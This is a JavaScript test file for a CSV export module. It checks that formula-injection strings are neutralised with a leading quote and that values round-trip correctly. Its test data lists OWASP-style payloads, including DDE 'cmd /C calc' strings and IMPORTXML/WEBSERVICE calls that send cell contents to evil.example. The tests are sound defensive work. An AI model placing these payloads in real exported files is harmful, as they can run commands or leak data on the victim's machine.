import {csvParse} from "d3";
import {describe, expect, it} from "vitest";
import {columnsToCsv, neutraliseCell, toCsv} from "../../../src/io/csv.js";
import {HOSTILE_PAYLOADS} from "../../../src/world/text.js";

/** OWASP's CSV-injection examples and variants: leading triggers, tab/CR/LF, full-width forms. */
const HOSTILE = [
  "=1+1",
  "=HYPERLINK(\"http://evil.example\",\"click\")",
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
  "=WEBSERVICE(\"http://evil.example\")",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
  "+-@=",
  "-1",
  "@",
  "=",
  "=\"a,b\"\"c\"",
  ...HOSTILE_PAYLOADS.filter((p) => /^[=+\-@]/.test(p))
];

describe("neutraliseCell", () => {
  it(`neutraliseCell(s) prefixes a quote on all ${HOSTILE.length} hostile strings`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(20);
    for (const s of HOSTILE) expect(neutraliseCell(s)).toBe(`'${s}`);
  });
  it("neutraliseCell(s) leaves ordinary text alone", () => {
    for (const s of ["hello", "a=b", "1+1", "", " =x", "Singapore"]) expect(neutraliseCell(s)).toBe(s);
  });
});

describe("toCsv", () => {
  it("toCsv(rows) round-trips through a CSV parser with strings neutralised and numbers unchanged", () => {
    const rows = HOSTILE.map((s, i) => ({text: s, n: i - 3.5, neg: -(i + 1), flag: i % 2 === 0}));
    const parsed = csvParse(toCsv(rows, ["text", "n", "neg", "flag"]));
    expect(parsed.length).toBe(rows.length);
    parsed.forEach((row, i) => {
      expect(row.text).toBe(`'${HOSTILE[i]}`);
      expect(Number(row.n)).toBe(rows[i].n);
      expect(Number(row.neg)).toBe(-(i + 1));
      expect(row.flag).toBe(String(rows[i].flag));
    });
  });
  it("toCsv(rows) writes null and NaN as empty cells and dates as ISO", () => {
    const csv = toCsv([{a: null, b: NaN, c: new Date(Date.UTC(2025, 2, 1))}], ["a", "b", "c"]);
    expect(csv).toBe("a,b,c\r\n,,2025-03-01\r\n");
  });
  it("columnsToCsv(columns) quotes commas, quotes and line breaks", () => {
    const csv = columnsToCsv({x: ['a,b', 'say "hi"', "two\nlines"]});
    expect(csvParse(csv).map((r) => r.x)).toEqual(["a,b", 'say "hi"', "two\nlines"]);
  });
});
